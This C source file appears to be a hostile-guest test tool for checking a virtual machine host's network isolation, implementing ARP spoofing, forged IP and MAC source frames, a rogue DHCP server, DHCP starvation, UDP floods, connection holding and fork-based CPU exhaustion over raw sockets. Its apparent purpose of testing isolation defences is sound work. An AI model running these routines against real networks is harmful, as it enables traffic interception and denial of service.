/*
 * What a hostile guest's root can send that no ordinary tool sends: frames and packets of its own making. One attack a
 * call; built as a static program and carried into the guest in its user_data (attack-kit.ts).
 *
 *   attack arp-claim COUNT IP TARGET-MAC          ARP answers "IP is at my MAC", to TARGET-MAC
 *   attack ip-from SOURCE-IP DEST-IP PORT COUNT TEXT   UDP packets with another's source address
 *   attack mac-from SOURCE-MAC DEST-MAC COUNT     IP frames with another's source MAC
 *   attack dhcp-serve COUNT                       offers of a DHCP server, to everybody
 *   attack dhcp-flood COUNT                       discovers with random client addresses
 *   attack ethertype TYPE DEST-MAC COUNT          frames of another protocol (hexadecimal)
 *   attack udp-flood DEST-IP PORT COUNT TEXT      ordinary datagrams as fast as they go; "%d" in TEXT is counted
 *   attack flows COUNT                            one datagram each to COUNT addresses outside
 *   attack tcp [-b SOURCE-IP] DEST-IP PORT SECONDS [TEXT]   connects and says what happened: open, closed, silent;
 *                                                 with TEXT sends it and prints what comes back
 *   attack udp DEST-IP PORT SECONDS TEXT          sends it and prints "answered BYTES" or "silent"
 *   attack hold DEST-IP PORT COUNT SECONDS TEXT   that many connections, each of which says TEXT and no more
 *   attack forks COUNT SECONDS                    children that compute
 *
 * All but tcp, udp and hold print how many the kernel took ("sent N").
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <netpacket/packet.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define INTERFACE "eth0"

static unsigned char own_mac[6];
static int frames;
static struct sockaddr_ll out;

static void die(const char *what) {
  perror(what);
  exit(1);
}

static void open_frames(void) {
  struct ifreq request = {0};
  frames = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
  if (frames < 0) die("packet socket");
  strcpy(request.ifr_name, INTERFACE);
  if (ioctl(frames, SIOCGIFHWADDR, &request)) die(INTERFACE);
  memcpy(own_mac, request.ifr_hwaddr.sa_data, 6);
  out.sll_family = AF_PACKET;
  out.sll_ifindex = if_nametoindex(INTERFACE);
  out.sll_halen = 6;
}

static void mac_of(const char *text, unsigned char *mac) {
  unsigned int part[6];
  if (sscanf(text, "%x:%x:%x:%x:%x:%x", part, part + 1, part + 2, part + 3, part + 4, part + 5) != 6) die(text);
  for (int i = 0; i < 6; i++) mac[i] = part[i];
}

static unsigned short sum_of(const void *data, int length) {
  const unsigned short *word = data;
  unsigned int sum = 0;
  for (; length > 1; length -= 2) sum += *word++;
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return ~sum;
}

static int send_frame(const unsigned char *frame, int length) {
  memcpy(out.sll_addr, frame, 6);
  for (int attempt = 0; attempt < 100; attempt++) {
    if (sendto(frames, frame, length, 0, (struct sockaddr *)&out, sizeof out) == length) return 1;
    if (errno != ENOBUFS) return 0;
    usleep(1000);
  }
  return 0;
}

static void header(unsigned char *frame, const unsigned char *to, const unsigned char *from, int type) {
  memcpy(frame, to, 6);
  memcpy(frame + 6, from, 6);
  frame[12] = type >> 8;
  frame[13] = type & 0xff;
}

/* An IPv4 packet with a UDP datagram, after the 14 bytes of its frame; returns the length of the whole. */
static int datagram(unsigned char *frame, const char *from, const char *to, int from_port, int to_port, const void *data,
                    int length) {
  struct iphdr *ip = (struct iphdr *)(frame + 14);
  struct udphdr *udp = (struct udphdr *)(frame + 34);
  memset(ip, 0, 28);
  ip->version = 4;
  ip->ihl = 5;
  ip->ttl = 64;
  ip->protocol = IPPROTO_UDP;
  ip->tot_len = htons(28 + length);
  ip->saddr = inet_addr(from);
  ip->daddr = inet_addr(to);
  ip->check = sum_of(ip, 20);
  udp->source = htons(from_port);
  udp->dest = htons(to_port);
  udp->len = htons(8 + length);
  memcpy(frame + 42, data, length);
  return 42 + length;
}

static const unsigned char everybody[6] = {255, 255, 255, 255, 255, 255};

static int arp_claim(int count, const char *ip, const char *target) {
  unsigned char frame[42] = {0}, to[6];
  in_addr_t address = inet_addr(ip);
  int sent = 0;
  mac_of(target, to);
  header(frame, to, own_mac, ETH_P_ARP);
  memcpy(frame + 14, "\0\1\10\0\6\4\0\2", 8);
  memcpy(frame + 22, own_mac, 6);
  memcpy(frame + 28, &address, 4);
  memcpy(frame + 32, to, 6);
  for (int i = 0; i < count; i++) sent += send_frame(frame, sizeof frame);
  return sent;
}

/* The MAC of the host, as the guest knows it. */
static void host_mac(unsigned char *mac) {
  char line[256], text[32], ip[32];
  FILE *table = fopen("/proc/net/arp", "r");
  memcpy(mac, everybody, 6);
  while (table && fgets(line, sizeof line, table)) {
    if (sscanf(line, "%31s %*s %*s %31s", ip, text) == 2 && !strncmp(ip, "169.254.169.25", 14)) mac_of(text, mac);
  }
  if (table) fclose(table);
}

static int ip_from(const char *from, const char *to, int port, int count, const char *text) {
  unsigned char frame[2048], mac[6];
  int sent = 0;
  host_mac(mac);
  header(frame, mac, own_mac, ETH_P_IP);
  int length = datagram(frame, from, to, 4000, port, text, strlen(text));
  for (int i = 0; i < count; i++) sent += send_frame(frame, length);
  return sent;
}

static int mac_from(const char *from, const char *to, int count) {
  unsigned char frame[2048], source[6], target[6];
  int sent = 0;
  mac_of(from, source);
  mac_of(to, target);
  header(frame, target, source, ETH_P_IP);
  int length = datagram(frame, "169.254.169.254", "255.255.255.255", 4000, 4001, "spoofed", 7);
  for (int i = 0; i < count; i++) sent += send_frame(frame, length);
  return sent;
}

/* The fixed part of BOOTP and the message type; everything else is left out by what an attacker cares for. */
static int dhcp(unsigned char *message, int operation, int type, const unsigned char *client) {
  memset(message, 0, 300);
  message[0] = operation;
  message[1] = 1;
  message[2] = 6;
  memcpy(message + 4, client, 4);
  memcpy(message + 28, client, 6);
  memcpy(message + 236, "\x63\x82\x53\x63\x35\x01", 6);
  message[242] = type;
  message[243] = 255;
  return 300;
}

static int dhcp_serve(int count) {
  unsigned char frame[2048], message[300];
  int sent = 0;
  for (int i = 0; i < count; i++) {
    /* An offer and an acknowledgement in turn, each of an address and a router that are the attacker's. */
    int length = dhcp(message, 2, i % 2 ? 5 : 2, everybody);
    memcpy(message + 16, "\xa9\xfe\xa9\x42\xa9\xfe\xa9\x42", 8);
    header(frame, everybody, own_mac, ETH_P_IP);
    length = datagram(frame, "169.254.169.253", "255.255.255.255", 67, 68, message, length);
    sent += send_frame(frame, length);
  }
  return sent;
}

static int dhcp_flood(int count) {
  unsigned char frame[2048], message[300], client[6] = {2};
  int sent = 0;
  for (int i = 0; i < count; i++) {
    for (int j = 1; j < 6; j++) client[j] = random();
    int length = dhcp(message, 1, 1, client);
    /* Half of them as their own frames say, half with the sender's real address and another client inside. */
    header(frame, everybody, i % 2 ? client : own_mac, ETH_P_IP);
    length = datagram(frame, "0.0.0.0", "255.255.255.255", 68, 67, message, length);
    sent += send_frame(frame, length);
  }
  return sent;
}

static int ethertype(int type, const char *to, int count) {
  unsigned char frame[128] = {0}, target[6];
  int sent = 0;
  mac_of(to, target);
  header(frame, target, own_mac, type);
  memcpy(frame + 14, "hostile", 7);
  for (int i = 0; i < count; i++) sent += send_frame(frame, sizeof frame);
  return sent;
}

static struct sockaddr_in address_of(const char *ip, int port) {
  struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons(port)};
  address.sin_addr.s_addr = inet_addr(ip);
  return address;
}

static int udp_flood(const char *to, int port, int count, const char *text) {
  struct sockaddr_in target = address_of(to, port);
  int socket_ = socket(AF_INET, SOCK_DGRAM, 0), sent = 0;
  char line[2048];
  for (int i = 0; i < count; i++) {
    int length = snprintf(line, sizeof line, text, i);
    sent += sendto(socket_, line, length, 0, (struct sockaddr *)&target, sizeof target) == length;
  }
  return sent;
}

static int flows(int count) {
  int socket_ = socket(AF_INET, SOCK_DGRAM, 0), sent = 0;
  char ip[32];
  for (int i = 0; i < count; i++) {
    /* 198.18.0.0/15 is for benchmarks (RFC 2544): nobody is there. */
    snprintf(ip, sizeof ip, "198.18.%d.%d", i / 250 % 250, 1 + i % 250);
    struct sockaddr_in target = address_of(ip, 4000 + i / 62500);
    sent += sendto(socket_, "x", 1, 0, (struct sockaddr *)&target, sizeof target) == 1;
  }
  return sent;
}

static int ready(int socket_, short events, int seconds) {
  struct pollfd wanted = {.fd = socket_, .events = events};
  return poll(&wanted, 1, seconds * 1000) > 0;
}

static int tcp(const char *from, const char *to, int port, int seconds, const char *text) {
  struct sockaddr_in target = address_of(to, port);
  int socket_ = socket(AF_INET, SOCK_STREAM, 0), error = 0;
  socklen_t size = sizeof error;
  char answer[4096];
  if (from) {
    struct sockaddr_in source = address_of(from, 0);
    if (bind(socket_, (struct sockaddr *)&source, sizeof source)) die("bind");
  }
  fcntl(socket_, F_SETFL, O_NONBLOCK);
  if (connect(socket_, (struct sockaddr *)&target, sizeof target) && errno != EINPROGRESS) error = errno;
  if (!error && !ready(socket_, POLLOUT, seconds)) return puts("silent");
  if (!error) getsockopt(socket_, SOL_SOCKET, SO_ERROR, &error, &size);
  if (error) return error == ETIMEDOUT || error == EHOSTUNREACH ? puts("silent") : puts("closed");
  if (!text) return puts("open");
  for (const char *rest = text; *rest;) {
    int taken = write(socket_, rest, strlen(rest));
    if (taken > 0) rest += taken;
    else if (!ready(socket_, POLLOUT, seconds)) return puts("silent");
  }
  while (ready(socket_, POLLIN, seconds)) {
    int got = read(socket_, answer, sizeof answer);
    if (got <= 0) return 0;
    fwrite(answer, 1, got, stdout);
  }
  return 0;
}

static int udp(const char *to, int port, int seconds, const char *text) {
  struct sockaddr_in target = address_of(to, port);
  int socket_ = socket(AF_INET, SOCK_DGRAM, 0);
  char answer[4096];
  sendto(socket_, text, strlen(text), 0, (struct sockaddr *)&target, sizeof target);
  int got = ready(socket_, POLLIN, seconds) ? recv(socket_, answer, sizeof answer, 0) : -1;
  return got < 0 ? puts("silent") : printf("answered %d\n", got);
}

static int hold(const char *to, int port, int count, int seconds, const char *text) {
  struct sockaddr_in target = address_of(to, port);
  int *sockets = calloc(count, sizeof *sockets), open_ = 0;
  char byte;
  signal(SIGPIPE, SIG_IGN);
  for (int i = 0; i < count; i++) {
    sockets[i] = socket(AF_INET, SOCK_STREAM, 0);
    fcntl(sockets[i], F_SETFL, O_NONBLOCK);
    connect(sockets[i], (struct sockaddr *)&target, sizeof target);
  }
  for (int passed = 0; passed < seconds; passed++) {
    open_ = 0;
    for (int i = 0; i < count; i++) {
      if (passed == 0 && !ready(sockets[i], POLLOUT, 1)) continue;
      if (passed == 0 && write(sockets[i], text, strlen(text)) < 0) continue;
      open_ += recv(sockets[i], &byte, 1, MSG_PEEK) < 0 && errno == EAGAIN;
    }
    sleep(1);
  }
  return printf("held %d\n", open_);
}

static int forks(int count, int seconds) {
  int made = 0;
  time_t end = time(NULL) + seconds;
  for (int i = 0; i < count; i++) {
    int pid = fork();
    if (pid == 0) {
      while (time(NULL) < end) {}
      _exit(0);
    }
    made += pid > 0;
  }
  while (wait(NULL) > 0) {}
  return made;
}

int main(int argc, char **argv) {
  const char *what = argc > 1 ? argv[1] : "";
  int sent = -1;
  srandom(time(NULL));
#define IS(name, arguments) (!strcmp(what, name) && argc >= 2 + arguments)
  if (IS("tcp", 3)) {
    int bound = !strcmp(argv[2], "-b");
    char **rest = argv + 2 + 2 * bound;
    tcp(bound ? argv[3] : NULL, rest[0], atoi(rest[1]), atoi(rest[2]), argc > 5 + 2 * bound ? rest[3] : NULL);
    return 0;
  }
  if (IS("udp", 4)) return udp(argv[2], atoi(argv[3]), atoi(argv[4]), argv[5]) < 0;
  if (IS("hold", 5)) return hold(argv[2], atoi(argv[3]), atoi(argv[4]), atoi(argv[5]), argv[6]) < 0;
  if (IS("udp-flood", 4)) sent = udp_flood(argv[2], atoi(argv[3]), atoi(argv[4]), argv[5]);
  else if (IS("flows", 1)) sent = flows(atoi(argv[2]));
  else if (IS("forks", 2)) sent = forks(atoi(argv[2]), atoi(argv[3]));
  else {
    open_frames();
    if (IS("arp-claim", 3)) sent = arp_claim(atoi(argv[2]), argv[3], argv[4]);
    if (IS("ip-from", 5)) sent = ip_from(argv[2], argv[3], atoi(argv[4]), atoi(argv[5]), argv[6]);
    if (IS("mac-from", 3)) sent = mac_from(argv[2], argv[3], atoi(argv[4]));
    if (IS("dhcp-serve", 1)) sent = dhcp_serve(atoi(argv[2]));
    if (IS("dhcp-flood", 1)) sent = dhcp_flood(atoi(argv[2]));
    if (IS("ethertype", 3)) sent = ethertype(strtol(argv[2], NULL, 16), argv[3], atoi(argv[4]));
  }
  if (sent < 0) return fputs("attack: unknown attack or too few arguments\n", stderr), 2;
  printf("sent %d\n", sent);
  return 0;
}
